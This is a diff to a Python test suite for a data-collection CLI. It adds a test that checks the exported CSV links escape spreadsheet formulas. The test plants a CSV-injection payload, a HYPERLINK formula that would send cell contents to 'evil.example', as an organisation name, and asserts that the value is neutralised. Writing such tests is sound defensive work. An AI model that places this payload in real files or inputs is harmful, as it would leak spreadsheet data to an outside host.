@@ -14,6 +14,7 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from collector import models
 from collector.models import utcnow
+from collector.spreadsheets import FORMULA_STARTS
 from tests.collector.conftest import Run
 from tests.factories import make_organisation, make_provider
 
@@ -377,3 +378,22 @@ def test_list_filters_by_provider(run: Run, world: dict[str, Any]) -> None:
     assert other.exit_code == 0 and "(none)" in other.output and "harlow-cvs" not in other.output
     unknown = run("rounds", "list", "--provider", "nowhere")
     assert unknown.exit_code == 1 and "No provider called 'nowhere'" in unknown.output
+
+
+def test_links_never_hand_a_spreadsheet_a_formula(
+    run: Run, world: dict[str, Any], session_factory: sessionmaker[Session], tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    _create(run)
+    run("rounds", "open", "1")
+    with session_factory() as session, session.begin():
+        group = session.scalars(
+            select(models.Organisation).where(models.Organisation.external_ref == "H1")
+        ).one()
+        group.name = hostile
+    target = tmp_path / "links.csv"
+    assert run("rounds", "links", "1", "--output", str(target)).exit_code == 0
+    for text in (target.read_text(encoding="utf-8-sig"), run("rounds", "links", "1").output):
+        rows = list(csv.DictReader(text.splitlines()))
+        assert [r["organisation"] for r in rows if r["external_ref"] == "H1"] == ["'" + hostile]
+        assert not [c for r in rows for c in r.values() if c.startswith(FORMULA_STARTS)]
